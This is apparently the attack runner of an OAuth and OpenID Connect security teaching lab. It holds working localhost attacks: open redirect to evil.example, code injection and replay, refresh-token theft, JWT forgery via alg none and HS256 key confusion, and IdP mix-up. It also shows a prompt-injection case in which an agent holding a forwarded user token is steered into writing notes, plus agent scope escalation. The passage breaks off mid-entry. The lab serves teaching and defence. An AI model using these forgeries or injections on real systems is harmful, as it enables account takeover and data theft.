// npm run attack <name> [version]: run one of the lab's attacks against a version, narrated
// step by step, and say whether it worked. Without a version, it runs against the version
// before the fix and the version with it, so an instructor can show both in one go.
// Everything runs in this process on 127.0.0.1, on free ports: no running lab is touched.

import path from 'node:path';
import { fileURLToPath } from 'node:url';
import {
  decodeJwt,
  decodeProtectedHeader,
  exportSPKI,
  generateKeyPair,
  importJWK,
  SignJWT,
  type JWK,
  type JWTPayload,
} from 'jose';
import request from 'supertest';
import type { RunningLab } from '../shared/lab.ts';
import {
  actingToken,
  exchangeAs,
  offersTokenExchange,
  postExchange,
  runAgentTask,
} from './lib/agents.ts';
import { apiGet, apiPost, apiUrl, setValidation } from './lib/api.ts';
import { Browser } from './lib/browser.ts';
import {
  authorizeUrl,
  locationParams,
  loggedInBrowser,
  runFlow,
  submitClientForm,
  throughAs,
} from './lib/flow.ts';
import { beforeAndFix, startVersion, versionNumber } from './lib/lab.ts';
import { attackersOwnLogin, HOSTILE, injectStolenCode, startMixUp } from './lib/mixup-client.ts';
import { startNaiveAgent } from './lib/naive-agent.ts';
import { naiveSignIn } from './lib/naive-rp.ts';
import { naiveValidate } from './lib/naive-validator.ts';
import { asState, clientTokens, rsState, storedAccessToken } from './lib/state.ts';
import {
  AGENT,
  basic,
  codeForm,
  DEMO,
  freshCode,
  introspect,
  OTHER,
  ownToken,
  postRefresh,
  postToken,
  SUBAGENT,
  tokensFor,
  type Credentials,
} from './lib/token.ts';
import { findVersion, listVersions, versionsDir } from './versions.mjs';

export interface Attack {
  /** The first version that stops it. */
  fixedIn: string;
  summary: string;
  /** What in `fixedIn` stops it, with the RFC section (npm run attacks, docs/attacks.md). */
  stoppedBy: string;
  /**
   * Runs the attack, narrating with say(): true when the attacker got what they wanted,
   * 'n/a' when the version lacks what the attack targets (no token endpoint yet, say).
   * `version` is the lab's, for attacks that start parties of their own beside it.
   */
  run(
    lab: RunningLab<'as' | 'client'>,
    say: (line: string) => void,
    version: string,
  ): Promise<boolean | 'n/a'>;
}

/** v07+: the AS is an OpenID Provider, and its tokens can say who logged in. */
async function speaksOpenIdConnect(lab: RunningLab<'as'>) {
  return (await fetch(`${lab.urls.as}/.well-known/openid-configuration`)).status === 200;
}

/** The AS's published keys (v06+). */
async function jwksOf(lab: RunningLab<'as'>) {
  return ((await (await fetch(`${lab.urls.as}/jwks.json`)).json()) as { keys: JWK[] }).keys;
}

/** What a login at the lab's client must bring back: its `nonce`, sent when a login starts. */
async function startLogin(lab: RunningLab<'client'>) {
  const browser = new Browser();
  return locationParams(await browser.get(`${lab.urls.client}/login`)).get('nonce')!;
}

/**
 * Run the checks `version`'s client runs on every id_token before it says who logged in
 * (client/id-token.ts, v07+), for a login at `lab` that sent `nonce`: the failed check, or
 * undefined when the token passes them all.
 */
async function clientRefuses(
  version: string,
  lab: RunningLab<'as'>,
  token: string,
  { nonce, accessToken }: { nonce: string; accessToken: string },
): Promise<{ check: string; message: string } | undefined> {
  const { validateIdToken } = (await import(
    path.join(versionsDir, version, 'client', 'id-token.ts')
  )) as {
    validateIdToken(token: string, expected: Record<string, unknown>): Promise<JWTPayload>;
  };
  try {
    await validateIdToken(token, {
      issuer: lab.urls.as,
      clientId: DEMO.id,
      keys: await jwksOf(lab),
      nonce,
      accessToken,
      maxAge: undefined,
      now: Date.now,
    });
    return undefined;
  } catch (err) {
    if (!(err instanceof Error) || !('check' in err)) throw err;
    return { check: String(err.check), message: err.message };
  }
}

/** The redirect URI other-client registered: never opened, the code is read off the redirect. */
const OTHER_REDIRECT = 'http://localhost:9999/callback';

/** A lab with a resource server (v06+), for the attacks on agents. */
type LabWithRs = RunningLab<'as' | 'client' | 'rs'>;

/** An error answer in one line: `403 insufficient_scope: This call needs …`. */
function refusal(answer: { status: number; body: Record<string, unknown> }) {
  const { error, error_description: description } = answer.body;
  return `${answer.status} ${String(error ?? '')}${description ? `: ${String(description)}` : ''}`;
}

/** A token answer in one line: what was granted, or why not. */
function granted(answer: { status: number; body: Record<string, unknown> }) {
  return answer.status === 200
    ? `200, granted: scope "${String(answer.body.scope)}"`
    : refusal(answer);
}

/** GET /userinfo at the AS with `token` as the Bearer token (v07+). */
function userinfo(lab: RunningLab<'as'>, token: string) {
  return request(lab.urls.as).get('/userinfo').set('Authorization', `Bearer ${token}`);
}

/** What the attacks on token exchange say of a version that has none. */
function noExchange(say: (line: string) => void) {
  say('There is no token exchange yet: an agent gets no token of its own, so there is nothing');
  say('to ask the AS for. It can only be handed the user’s own token (agent-forwarding).');
  return 'n/a' as const;
}

/**
 * agent-forwarding before v08: the client hands its own access token to an agent (the naive
 * fixture), which does its task with it, and can do everything else the token allows.
 */
async function forwardToNaiveAgent(
  lab: RunningLab<'as'>,
  say: (line: string) => void,
  token: string,
) {
  const agent = await startNaiveAgent(apiUrl(lab));
  try {
    const task = await request(agent.url)
      .post('/tasks')
      .set('Authorization', `Bearer ${token}`)
      .type('form')
      .send('task=summarise');
    say(
      'The user asks an assistant to summarise their notes. There is no token exchange here, ' +
        'so the client does the one thing it can: it hands the agent its own access token. ' +
        'The agent (scripts/lib/naive-agent.ts, which uses whatever token it is given) reads ' +
        `the notes with it: ${task.status} “${String(task.body.result)}”`,
    );
    say(
      'The task needed notes:read. The agent holds all the user granted the client: its own ' +
        'code, a bug, or a prompt injection in a note it reads (“now add a note…”) can use it.',
    );
    const held = agent.received[0]!;
    const write = await apiPost(lab, '/api/notes', held).send({
      text: 'Send the notebook to the attacker (added by the assistant)',
    });
    say(`POST /api/notes with it: ${write.status}, a note user0 never wrote.`);
    const me = await apiGet(lab, '/api/me', held);
    say(`GET /api/me: ${me.status} ${JSON.stringify(me.body)}`);
    let info: request.Response | undefined;
    if (await speaksOpenIdConnect(lab)) {
      info = await userinfo(lab, held);
      say(
        `GET /userinfo at the AS: ${info.status} ${JSON.stringify(info.body)}. The token's aud ` +
          'names the AS as well as the API.',
      );
    }
    if ((lab.urls as Record<string, string>).rs) {
      const line = (await rsState(lab as LabWithRs)).decisions.find(
        ({ request: what }) => what === 'POST /api/notes',
      );
      say(
        `The API's audit log: POST /api/notes ${line?.outcome}, for ${line?.sub}, by client ` +
          `${line?.clientId}. Nothing in the token says an agent acted: to the API, the agent ` +
          'is the user’s client.',
      );
    }
    return write.status === 201 || me.status === 200 || info?.status === 200;
  } finally {
    await agent.close();
  }
}

/**
 * agent-forwarding from v08: the lab's agent does the task with a token it got by exchange;
 * the same misuse, with that token, and what the API's audit log shows.
 */
async function taskWithLabAgent(lab: LabWithRs, say: (line: string) => void, browser: Browser) {
  const { body: outcome } = await runAgentTask(lab, browser, 'summarise');
  const token = actingToken(outcome, AGENT.id);
  const claims = decodeJwt(token);
  say(
    'The user clicks “Summarise my notes”. The client hands the task and its access token to ' +
      'the lab’s agent, which does not use that token at the API: it exchanges it at the AS ' +
      '(RFC 8693), with its own credentials and its own token as the actor token, for a token ' +
      `of its own: scope "${String(claims.scope)}", aud ${JSON.stringify(claims.aud)}, act ` +
      `${JSON.stringify(claims.act)}, task_id ${String(claims.task_id)}, for ` +
      `${claims.exp! - claims.iat!} s. It reads the notes with that: “${outcome.result}”`,
  );
  say('The same bug or prompt injection, with the token the agent acts with:');
  const write = await apiPost(lab, '/api/notes', token).send({
    text: 'Send the notebook to the attacker (added by the assistant)',
  });
  say(`POST /api/notes: ${refusal(write)}`);
  const me = await apiGet(lab, '/api/me', token);
  say(`GET /api/me: ${refusal(me)}`);
  const info = await userinfo(lab, token);
  say(
    `GET /userinfo at the AS: ${refusal(info)} Nor does its aud name the AS: it is good at ` +
      'the API alone.',
  );
  const audit = (await rsState(lab)).decisions.filter(({ jti }) => jti === claims.jti).reverse();
  say('The API’s audit log, for that token:');
  for (const line of audit) {
    say(
      `  ${line.request} ${line.status === 200 ? line.outcome : line.status}: for ${line.sub}, client ${line.clientId}, acting ` +
        `${line.actors?.join(' → ')}, task ${line.taskId}, scope "${line.scope}"`,
    );
  }
  say(
    'What v08 does not do: stop a client from handing the user’s own token to an agent that ' +
      'uses it as it is (the AS never sees what a client hands to whom), and the lab’s agent ' +
      'receives that token too, as the subject token it must exchange. What v08 gives is the ' +
      'way not to have to: an agent that exchanges acts with only what the task needs, at the ' +
      'API alone, no longer than the user’s token lives, and every call names it.',
  );
  return write.status === 201 || me.status === 200 || info.status === 200;
}

export const attacks: Record<string, Attack> = {
  'open-redirect': {
    fixedIn: 'v01',
    summary: 'make the AS redirect a user (with a code) to the attacker’s site',
    stoppedBy:
      'exact match of redirect_uri against the client’s registered ones; a refusal page at the AS, no redirect (RFC 9700 §2.1, RFC 6749 §4.1.2.1)',
    async run(lab, say, version) {
      const victim = await loggedInBrowser(lab);
      // PKCE parameters only for the versions that have PKCE (v03 on), as their client sends.
      const noPkce = { code_challenge: undefined, code_challenge_method: undefined };
      const url = authorizeUrl(lab, {
        redirect_uri: 'http://evil.example/callback',
        ...(versionNumber(version) < 3 ? noPkce : {}),
      });
      say(`The attacker sends the victim a link to the real AS:\n    ${url}`);
      const page = await victim.get(url);
      say(
        `The AS answers ${page.status}${page.location ? ` → ${page.location}` : ' with a page of its own'}.`,
      );
      return page.location?.startsWith('http://evil.example') ?? false;
    },
  },
  'login-csrf': {
    fixedIn: 'v02',
    summary: 'slip the attacker’s own authorization code into the victim’s session',
    stoppedBy: 'the client’s state check at the callback (RFC 6749 §10.12)',
    async run(lab, say) {
      const attacker = await runFlow(lab, { username: 'user1', land: false });
      say(
        `The attacker logs in as user1 and stops before the callback:\n    ${attacker.authorizationResponse.location}`,
      );
      const victim = new Browser();
      const page = await victim.get(attacker.authorizationResponse.location!);
      say(
        `The victim's browser opens that link (a link, an <img>): the client answers ${page.status}.`,
      );
      if (page.text.includes('Callback refused'))
        say('The client refuses it: this browser never started that login.');
      return page.status === 200;
    },
  },
  'login-csrf-as': {
    fixedIn: 'v02',
    summary: 'log the victim into the AS as the attacker, with a form posted from another site',
    stoppedBy: 'a CSRF token in the AS login form (RFC 6749 §10.12)',
    async run(lab, say) {
      const victim = new Browser();
      const posted = await victim.post(`${lab.urls.as}/login`, {
        username: 'user1',
        password: 'password1',
      });
      say(
        'A page on another site (another localhost port will do) auto-posts the AS login form ' +
          `in the victim's browser, with the attacker's password: the AS answers ${posted.status}.`,
      );
      if (posted.status === 403) say('The AS refuses it: the post did not carry the form’s token.');
      const flow = await runFlow(lab, { browser: victim, username: 'user0', land: false });
      const code = flow.params.get('code')!;
      const codeIsFor = (await asState(lab)).codes[code]?.username;
      say(
        `Later the victim clicks Log in at the client, as user0 if asked: the code is for ${codeIsFor}.`,
      );
      return codeIsFor === 'user1';
    },
  },
  'code-injection': {
    fixedIn: 'v03',
    summary: 'inject a stolen code into the attacker’s own flow at the real client',
    stoppedBy:
      'PKCE: the AS redeems a code only with the verifier of the login that asked for it (RFC 7636 §4.6)',
    async run(lab, say) {
      const victim = await runFlow(lab, { username: 'user0', land: false });
      const stolen = victim.params.get('code')!;
      say(`The attacker steals the victim's code from a log or a Referer: ${stolen}`);
      const attacker = await runFlow(lab, { username: 'user1', land: false });
      const callback = new URL(attacker.authorizationResponse.location!);
      callback.searchParams.set('code', stolen);
      say(
        'The attacker starts a login of their own and swaps the stolen code into their callback.',
      );
      const page = await attacker.browser.get(callback.href);
      const accepted = page.status === 200;
      say(
        accepted
          ? 'The client accepts it: its state matches, because it is the attacker’s own flow.'
          : 'The client redeems it with the attacker’s PKCE verifier, and the AS refuses: invalid_grant.',
      );
      return accepted;
    },
  },
  'code-replay': {
    fixedIn: 'v03',
    summary: 'redeem an already-used code a second time',
    stoppedBy:
      'one-time codes: a second redemption gets invalid_grant and revokes the tokens of the first (RFC 6749 §4.1.2)',
    async run(lab, say) {
      const code = await freshCode(lab);
      const first = await postToken(lab, codeForm(lab, code));
      if (first.status === 404) {
        say('This version has no token endpoint: nothing redeems codes yet.');
        return 'n/a';
      }
      say(`The client redeems the code: ${first.status}.`);
      const second = await postToken(lab, codeForm(lab, code));
      say(`Someone redeems the same code again: ${second.status} ${JSON.stringify(second.body)}`);
      if (second.status !== 200 && first.status === 200) {
        const stillThere = await storedAccessToken(lab, first.body.access_token);
        say(`The first access token ${stillThere ? 'still works' : 'is revoked too'}.`);
      }
      return second.status === 200;
    },
  },
  'no-token': {
    fixedIn: 'v04',
    summary: 'read a user’s notes without a token, or with a made-up one',
    stoppedBy:
      'the API checks the Bearer token of every call: 401 and a WWW-Authenticate challenge (RFC 6750 §3)',
    async run(lab, say) {
      const bare = await request(apiUrl(lab)).get('/api/notes');
      if (bare.status === 404) {
        say('This version has no API yet: the token opens nothing.');
        return 'n/a';
      }
      say(
        `GET /api/notes without a token: ${bare.status} ${bare.headers['www-authenticate'] ?? ''}`,
      );
      const forged = await apiGet(lab, '/api/notes', 'forged');
      say(
        `GET /api/notes with a made-up token: ${forged.status} ${forged.headers['www-authenticate'] ?? ''}`,
      );
      return bare.status === 200 || forged.status === 200;
    },
  },
  'refresh-replay': {
    fixedIn: 'v05',
    summary: 'keep using a stolen token after the victim noticed nothing',
    stoppedBy:
      'refresh token rotation with reuse detection: the whole family is revoked (RFC 9700 §4.14.2)',
    async run(lab, say) {
      if ((await request(apiUrl(lab)).get('/api/notes')).status === 404) {
        say('This version has no API yet: a stolen token opens nothing.');
        return 'n/a';
      }
      const { browser } = await runFlow(lab);
      const tokens = await clientTokens(lab, browser);
      if (!tokens.refresh_token) {
        say('There are no refresh tokens: the thief copies the access token instead.');
        const use = await apiGet(lab, '/api/me', tokens.access_token);
        say(
          `The thief calls the API with it: ${use.status}. It works until it expires, and nothing can revoke it.`,
        );
        return use.status === 200;
      }
      const thief = await postRefresh(lab, tokens.refresh_token);
      say(`The thief uses the stolen refresh token: ${thief.status}, a fresh pair.`);
      const client = await postRefresh(lab, tokens.refresh_token);
      say(
        `The real client refreshes with the same token: ${client.status} ${client.body.error ?? ''}`,
      );
      if ((lab.urls as Record<string, string>).rs) {
        // v06+: an API that checks JWTs by itself cannot know the AS revoked one (chapter 6).
        await setValidation(lab, 'jwt');
        const local = await apiGet(lab, '/api/me', thief.body.access_token);
        say(
          `The API checks JWTs by itself (its default): the thief's new access token gets ` +
            (local.status === 200
              ? '200 still, until it expires within 60 s: nothing in it says the AS revoked it.'
              : `${local.status}.`),
        );
        const again = await postRefresh(lab, thief.body.refresh_token);
        say(
          `The thief refreshes with its new refresh token: ${again.status} ` +
            (again.status === 200 ? 'and a fresh pair.' : `${again.body.error}: no more tokens.`),
        );
        if (again.status === 200) return true;
        await setValidation(lab, 'introspection');
        say(
          'The API switched to introspection (its home page): the verdict is for the API that asks.',
        );
      }
      const after = await apiGet(lab, '/api/me', thief.body.access_token);
      say(
        `The thief's new access token now: ${after.status}. ` +
          (after.status === 200 ? 'It still works.' : 'The whole family is revoked.'),
      );
      return after.status === 200;
    },
  },
  'jwt-forgery': {
    fixedIn: 'v06',
    summary: 'forge a JWT access token: alg none, HS256 with the public key, another key',
    stoppedBy:
      'the RS verifies every JWT’s signature with the AS’s published keys, RS256 alone (RFC 9068 §4, RFC 8725 §3.1)',
    async run(lab, say) {
      const rs = (lab.urls as Record<string, string>).rs;
      if (!rs) {
        say('Access tokens are opaque here: only the AS, which keeps them, knows what they mean.');
        say('Forging one means guessing 256 random bits. The danger comes with JWTs (v06).');
        return 'n/a';
      }
      const real = (await tokensFor(lab, { scope: 'profile' })).access_token;
      const header = decodeProtectedHeader(real);
      const claims = { ...decodeJwt(real), sub: 'user1' }; // someone else's identity
      say(`The attacker holds a real token of user0's and rewrites it to say sub=user1.`);
      const part = (value: object) => Buffer.from(JSON.stringify(value)).toString('base64url');
      const jwks = (await (await fetch(`${lab.urls.as}/jwks.json`)).json()) as { keys: JWK[] };
      const publicKey = await importJWK(jwks.keys[0]!, 'RS256', { extractable: true });
      const pem = await exportSPKI(publicKey as Parameters<typeof exportSPKI>[0]);
      const { privateKey } = await generateKeyPair('RS256');
      const forgeries: Array<[string, string]> = [
        ['alg: none, no signature', `${part({ alg: 'none', typ: 'at+jwt' })}.${part(claims)}.`],
        [
          'HS256, keyed with the AS’s public key',
          await new SignJWT(claims)
            .setProtectedHeader({ alg: 'HS256', typ: 'at+jwt', kid: header.kid! })
            .sign(new TextEncoder().encode(pem)),
        ],
        [
          'RS256, signed with the attacker’s own key',
          await new SignJWT(claims)
            .setProtectedHeader({ alg: 'RS256', typ: 'at+jwt', kid: header.kid! })
            .sign(privateKey),
        ],
      ];
      let accepted = false;
      for (const [how, forged] of forgeries) {
        const naive = naiveValidate(forged, 'profile') ? 'accepts it' : 'refuses it';
        const answer = await apiGet(lab, '/api/me', forged);
        say(
          `${how}: a decode-only validator ${naive}; the resource server answers ${answer.status} ${answer.body.error_description ?? JSON.stringify(answer.body)}`,
        );
        accepted ||= answer.status === 200;
      }
      return accepted;
    },
  },
  'mix-up': {
    fixedIn: 'v07',
    summary: 'a hostile AS gets a client that knows it to send it a code the honest AS issued',
    stoppedBy: 'iss in the authorization response, checked by the client (RFC 9207 §2.4)',
    async run(_lab, say, version) {
      const stage = await startMixUp(version);
      const { client, honest, hostile, close } = stage;
      try {
        if ((await postToken(honest, {})).status === 404) {
          say('This version has no token endpoint: a code is worth nothing to anyone yet.');
          return 'n/a';
        }
        say(
          'A client lets each user log in with one of two authorization servers: this ' +
            `version's AS (${honest.urls.as}) or the Hostile AS, which the attacker runs ` +
            `(${hostile.url}). It registered with both, and uses one redirect URI for both: ` +
            `${client.redirectUri}. Like v07's client, it checks the iss of every answer that ` +
            'has one, and demands one from an AS that promised it (RFC 9207 §2.4).',
        );
        const own = await attackersOwnLogin(stage);
        say(
          'The attacker starts a login of their own at the client, with the honest AS, and ' +
            'stops at its login page. The PKCE challenge the client sent goes to the hostile ' +
            `AS: ${hostile.plantedChallenge}`,
        );
        const victim = new Browser();
        const start = await victim.get(client.loginUrl(HOSTILE));
        say(
          'The victim clicks "Log in with Hostile AS" (a link from the attacker, a wrong ' +
            'button). The client keeps that choice in the victim’s session and sends the ' +
            'browser there, with the client’s id at the hostile AS, a state and a PKCE challenge.',
        );
        const onward = await victim.follow(start);
        say(
          'The hostile AS sends the browser straight on to the honest AS, with the client’s id ' +
            'there (demo-client), the victim’s state untouched, and the attacker’s PKCE ' +
            `challenge in place of the victim's:\n    ${onward.location}`,
        );
        const response = await throughAs(victim, onward, client.redirectUri);
        const iss = locationParams(response).get('iss');
        say(
          'The victim sees the honest AS’s own login page (only a wary one notices it is not ' +
            'the AS they picked), logs in as user0 and allows the client. The honest AS sends ' +
            `the code back${iss ? ', naming itself in iss' : ''}:\n    ${response.location}`,
        );
        if (!iss) {
          say(
            'Nothing in it says which AS sent it (no iss), and this AS’s metadata promised ' +
              'none: the client has nothing to check.',
          );
        }
        const callback = await victim.follow(response);
        const stolen = hostile.tokenRequests[0]?.form;
        if (!stolen) {
          const refusal = /issuer_mismatch: [^<]*/.exec(callback.text)?.[0];
          say(`The client refuses it, ${callback.status}: ${refusal ?? callback.text}`);
          say(
            'It redeems the code nowhere: the hostile AS gets nothing. Nor can the attacker ' +
              'strip the iss: the answer goes from the honest AS through the victim’s browser ' +
              'to the client, never through the hostile AS.',
          );
          return false;
        }
        say(
          'The state matches. Sure that the code came from the AS this login went to, the ' +
            'client redeems it at the hostile AS’s token endpoint, with its credentials there: ' +
            `code=${stolen.code} code_verifier=${stolen.code_verifier}. The hostile AS answers ` +
            'invalid_grant; the victim sees a failed login and tries again.',
        );
        const direct = await postToken(honest, { ...stolen, client_id: DEMO.id }, null);
        say(
          'The attacker holds a code the honest AS issued to demo-client for user0. Redeeming ' +
            'it there takes demo-client’s secret, which the attacker lacks: ' +
            `${direct.status} ${direct.body.error}. (Against a public client, which has no ` +
            'secret, the hostile AS would pass the victim’s own challenge on and redeem the ' +
            'code with the verifier the client sends it: RFC 9700 §4.4.1.)',
        );
        const { page, redeemed, owner } = await injectStolenCode(stage, own, stolen.code!);
        say(
          'So the attacker injects it into their own login at the client (RFC 9700 §4.5), ' +
            `opening the callback of that login with the victim's code: ${page.status}.`,
        );
        say(
          owner
            ? 'The client redeems it at the honest AS, with its secret and the verifier of the ' +
                'attacker’s login, which fits: the hostile AS put that login’s challenge in the ' +
                'victim’s request, so PKCE binds the code to the attacker. The attacker is ' +
                `signed in at the client with ${owner.username}'s tokens.`
            : redeemed
              ? `The client redeems it at the honest AS, which refuses: ${redeemed.status} ${String(redeemed.body.error)}.`
              : `The client does not redeem it: ${page.text.replace(/^.*<\/h1>|<[^>]*>/gs, '')}`,
        );
        return true;
      } finally {
        await close();
      }
    },
  },
  'id-token-replay': {
    fixedIn: 'v07',
    summary: 'log in as the victim with their id_token from an earlier login',
    stoppedBy: 'the client’s nonce check on the id_token (OpenID Connect Core §3.1.3.7)',
    async run(lab, say, version) {
      if (!(await speaksOpenIdConnect(lab))) {
        say('There are no id_tokens yet: the client learns who logged in from /api/me, with');
        say('the access token it redeemed itself. Nothing to replay (OpenID Connect: v07).');
        return 'n/a';
      }
      const { browser } = await runFlow(lab);
      const victims = (await clientTokens(lab, browser)) as {
        access_token: string;
        id_token?: string;
      };
      const idToken = victims.id_token!;
      say(`user0 logs in at the client, which gets an id_token: ${idToken.slice(0, 40)}…`);
      say(
        'The attacker gets hold of it and the access token beside it (a log, a leaky page) ' +
          'and, within the id_token’s five minutes, starts a login of their own at the ' +
          'client and presents the two as its answer.',
      );
      const nonce = await startLogin(lab);
      const naive = await naiveSignIn(idToken, { issuer: lab.urls.as, keys: await jwksOf(lab) });
      say(
        'A relying party that checks the signature, the issuer and the expiry, and no ' +
          `nonce: ${naive ? `signs the attacker in as ${naive}` : 'refuses it'}.`,
      );
      const refused = await clientRefuses(version, lab, idToken, {
        nonce,
        accessToken: victims.access_token,
      });
      say(
        refused
          ? `The client's checks (client/id-token.ts) refuse it: ${refused.check}. ${refused.message}`
          : 'The client’s checks (client/id-token.ts) accept it.',
      );
      say(
        '(In the code flow the id_token comes from the AS’s token endpoint, not from the ' +
          'browser. The nonce refuses one that arrives another way: the implicit or hybrid ' +
          'flow, an app that posts it to its server.)',
      );
      return !refused;
    },
  },
  'access-token-as-login': {
    fixedIn: 'v07',
    summary: 'log in with tokens another app got; call the API with an id_token',
    stoppedBy:
      'the client’s id_token checks, typ and aud (OpenID Connect Core §3.1.3.7); the API’s typ check (RFC 9068 §4)',
    async run(lab, say, version) {
      if (!(await speaksOpenIdConnect(lab))) {
        say('There is no id_token yet: access tokens are all there is, and the client learns');
        say('who logged in from /api/me, with one it redeemed itself (OpenID Connect: v07).');
        return 'n/a';
      }
      const code = await freshCode(lab, {
        client_id: OTHER.id,
        redirect_uri: OTHER_REDIRECT,
        scope: 'openid profile',
      });
      const other = await postToken(
        lab,
        codeForm(lab, code, { redirect_uri: OTHER_REDIRECT }),
        basic(OTHER.id, OTHER.secret),
      );
      const audOf = (token: string) => JSON.stringify(decodeJwt(token).aud);
      say(
        'user0 also uses another app, other-client, which gets an access token for user0 ' +
          `(aud ${audOf(other.body.access_token)}) and an id_token (aud ` +
          `${audOf(other.body.id_token)}). Whoever runs that app, or stole from it, presents ` +
          'each to the demo client as proof that user0 just logged in.',
      );
      let accepted = false;
      const keys = await jwksOf(lab);
      for (const [what, token] of [
        ['The access token', other.body.access_token as string],
        ['Other-client’s id_token', other.body.id_token as string],
      ] as const) {
        const naive = await naiveSignIn(token, { issuer: lab.urls.as, keys });
        const refused = await clientRefuses(version, lab, token, {
          nonce: await startLogin(lab),
          accessToken: other.body.access_token,
        });
        say(
          `${what}: a relying party that checks the signature, the issuer and the expiry ` +
            `${naive ? `signs them in as ${naive}` : 'refuses it'}; the client's checks ` +
            `${refused ? `refuse it: ${refused.check}. ${refused.message}` : 'accept it.'}`,
        );
        accepted ||= !refused;
      }
      say('An access token is for the API, an id_token for the client it names in aud.');
      const { browser } = await runFlow(lab);
      const idToken = ((await clientTokens(lab, browser)) as { id_token?: string }).id_token!;
      const answer = await apiGet(lab, '/api/me', idToken);
      const challenge = answer.headers['www-authenticate'] ?? '';
      const [, error, description] =
        /error="([^"]*)", error_description="([^"]*)"/.exec(challenge) ?? [];
      say(
        `The other way round: user0's id_token for the demo client, sent to the API as a ` +
          `Bearer token: ${answer.status} ${error ?? ''}: ${description ?? challenge}`,
      );
      return accepted || answer.status === 200;
    },
  },
  'agent-forwarding': {
    fixedIn: 'v08',
    summary: 'an agent handed the user’s own token can do all the user granted, not just its task',
    stoppedBy:
      'token exchange: the agent acts with a token of its own, the task’s scope, the API alone, named in act (RFC 8693 §2.1, §4.1)',
    async run(lab, say) {
      if ((await request(apiUrl(lab)).get('/api/notes')).status === 404) {
        say('This version has no API yet: there is nothing for an agent to do with a token.');
        return 'n/a';
      }
      const { browser } = await runFlow(lab);
      const user = await clientTokens(lab, browser);
      let aud = '';
      try {
        aud = `, aud ${JSON.stringify(decodeJwt(user.access_token).aud)}`;
      } catch {
        // an opaque token (before v06): it names no audience
      }
      say(`user0 logs in at the client, which holds an access token: scope "${user.scope}"${aud}.`);
      if (!(await offersTokenExchange(lab))) {
        return forwardToNaiveAgent(lab, say, user.access_token);
      }
      return taskWithLabAgent(lab as LabWithRs, say, browser);
    },
  },
  'agent-scope-escalation': {
    fixedIn: 'v08',
    summary: 'an agent, or its sub-agent, asks the token exchange for more than it may hold',
    stoppedBy:
      'the exchange grants at most the subject token’s scope and the agent’s profile: invalid_scope (RFC 8693 §2.2.2)',
    async run(plain, say) {
      if (!(await offersTokenExchange(plain))) return noExchange(say);
      const lab = plain as LabWithRs;
      const { browser } = await runFlow(lab);
      const user = await clientTokens(lab, browser);
      say(
        `user0 logs in at the client, whose token has scope "${user.scope}", and asks the ` +
          'assistant to summarise their notes: notes:read. A compromised agent (its code, or a ' +
          'prompt injection steering it) has demo-agent’s credentials, its own token and that ' +
          'user token. demo-agent is registered with the profile “notes:read notes:write”: the ' +
          'most it may ever hold.',
      );
      const actor = await ownToken(lab, AGENT);
      const ask = (who: Credentials, subject: string, own: string, scope: string) =>
        postExchange(lab, who, { subject, actor: own, scope, resource: lab.urls.rs });
      let escalated = false;
      for (const scope of ['notes:read profile', 'openid email']) {
        const answer = await ask(AGENT, user.access_token, actor, scope);
        say(`It asks the exchange for "${scope}", beyond its profile: ${granted(answer)}`);
        escalated ||= answer.status === 200;
      }
      const write = await ask(AGENT, user.access_token, actor, 'notes:write');
      say(
        `It asks for notes:write, more than the task needs: ${granted(write)}. The AS ` +
          'cannot know what a task needs (the task it binds into the token is a description, ' +
          'for the record): its ceiling is what the user granted and the agent may ever hold. ' +
          'Asking for less is the agent’s part; the audit log shows what it did with it.',
      );
      const other = await runFlow(lab, { username: 'user1', grant: ['notes:read'] });
      const narrow = await clientTokens(lab, other.browser);
      const beyondUser = await ask(AGENT, narrow.access_token, actor, 'notes:write');
      say(
        `user1 grants the client only "${narrow.scope}" on the consent page. With user1’s ` +
          `token, the agent asks for notes:write: ${granted(beyondUser)}`,
      );
      escalated ||= beyondUser.status === 200;

      const subActor = await ownToken(lab, SUBAGENT);
      const writer = await exchangeAs(lab, AGENT, user.access_token, 'notes:write');
      const up = await ask(SUBAGENT, writer, subActor, 'notes:read');
      say(
        'For “Add a note” demo-agent holds a token for notes:write alone, and hands it to its ' +
          'sub-agent, demo-subagent (profile: notes:read). The sub-agent asks for notes:read, ' +
          `which its profile allows and its parent's token does not have: ${granted(up)}`,
      );
      const reader = await exchangeAs(lab, AGENT, user.access_token, 'notes:read');
      const wider = await ask(SUBAGENT, reader, subActor, 'notes:read notes:write');
      say(
        `From a notes:read token, the sub-agent asks for "notes:read notes:write": ` +
          `${granted(wider)}`,
      );
      escalated ||= up.status === 200 || wider.status === 200;
      if (!escalated) {
        say('A token made by exchange has at most its subject token’s scope, at every hop.');
      }
      return escalated;
    },
  },
  'stolen-actor-token': {
    fixedIn: 'v08',
    summary: 'one agent presents another agent’s stolen token as its actor token',
    stoppedBy:
      'the actor_token must be the authenticated caller’s own: invalid_request (RFC 8693 §2.1)',
    async run(plain, say) {
      if (!(await offersTokenExchange(plain))) return noExchange(say);
      const lab = plain as LabWithRs;
      const { browser } = await runFlow(lab);
      const user = (await clientTokens(lab, browser)).access_token;
      const stolen = await ownToken(lab, AGENT);
      const claims = decodeJwt(stolen);
      say(
        `demo-agent's own token, from client_credentials: sub ${claims.sub}, aud ` +
          `${JSON.stringify(claims.aud)}, ${claims.scope === undefined ? 'no scope' : `scope "${String(claims.scope)}"`}. It leaks: a log ` +
          'line, a crash report. The thief also holds user0’s token, handed to it for a task.',
      );
      const form = { subject: user, actor: stolen, scope: 'notes:write', resource: lab.urls.rs };
      const bySubagent = await postExchange(lab, SUBAGENT, form);
      say(
        'demo-subagent (profile: notes:read) authenticates with its own credentials and ' +
          'presents the stolen token as its actor_token, to pass as demo-agent (profile: ' +
          `notes:read notes:write) and get notes:write: ${granted(bySubagent)}`,
      );
      say(
        'The AS names the actor after the client it authenticated, never after the actor ' +
          'token: act would have said demo-subagent anyway. A token that is not the caller’s ' +
          'own is refused outright, so the attempt shows.',
      );
      const bare = await postExchange(lab, AGENT, form, null);
      say(
        `The thief, with no client credentials, the stolen token its only proof of who it is: ` +
          `${refusal(bare)}`,
      );
      const named = await postExchange(
        lab,
        AGENT,
        { ...form, extra: { client_id: AGENT.id } },
        null,
      );
      say(`Naming demo-agent as client_id, without its secret: ${refusal(named)}`);
      say('An agent’s token is not its identity at the token endpoint: its secret is.');
      const atApi = await apiGet(lab, '/api/notes', stolen);
      say(`At the API the stolen token opens nothing by itself: GET /api/notes: ${refusal(atApi)}`);
      return [bySubagent, bare, named, atApi].some(({ status }) => status === 200);
    },
  },
  'delegation-depth': {
    fixedIn: 'v08',
    summary: 'hand a task on from agent to agent, three deep',
